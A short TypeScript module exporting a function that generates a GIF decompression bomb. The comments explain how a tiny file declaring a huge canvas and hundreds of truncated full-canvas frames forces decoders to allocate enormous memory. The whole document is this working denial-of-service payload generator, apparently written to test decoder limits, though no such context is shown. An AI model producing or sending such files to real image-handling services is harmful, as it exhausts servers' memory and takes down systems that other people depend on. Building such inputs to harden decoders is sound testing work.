// a small GIF that declares a huge canvas and many frames: each frame as large as the canvas, its
// pixel data cut after one pixel, so a decoder that builds every frame's canvas holds
// width × height × 4 bytes per frame (6000 × 6000 × 500 frames in about 11 KB)
export function gifBomb(width = 6000, height = 6000, frames = 500): Buffer {
  const parts: Buffer[] = [];
  const u16 = (value: number) => Buffer.from([value & 0xff, (value >> 8) & 0xff]);
  parts.push(Buffer.from("GIF89a", "latin1"));
  // logical screen: a global colour table of 2 entries (flag 0x80, size 0)
  parts.push(u16(width), u16(height), Buffer.from([0x80, 0, 0]));
  parts.push(Buffer.from([0, 0, 0, 255, 255, 255]));
  // the looping extension, as an animation has
  parts.push(Buffer.from([0x21, 0xff, 0x0b]), Buffer.from("NETSCAPE2.0", "latin1"), Buffer.from([3, 1, 0, 0, 0]));
  for (let frame = 0; frame < frames; frame++) {
    // graphic control: no disposal, 10 ms
    parts.push(Buffer.from([0x21, 0xf9, 4, 0, 1, 0, 0, 0]));
    // an image as large as the canvas, whose pixel data ends after the first pixel
    parts.push(Buffer.from([0x2c]), u16(0), u16(0), u16(width), u16(height), Buffer.from([0]));
    // LZW, minimum code size 2: clear (4), pixel 0, end (5) — packed in 3-bit codes: 0x44, 0x01
    parts.push(Buffer.from([2, 2, 0x44, 0x01, 0]));
  }
  parts.push(Buffer.from([0x3b]));
  return Buffer.concat(parts);
}
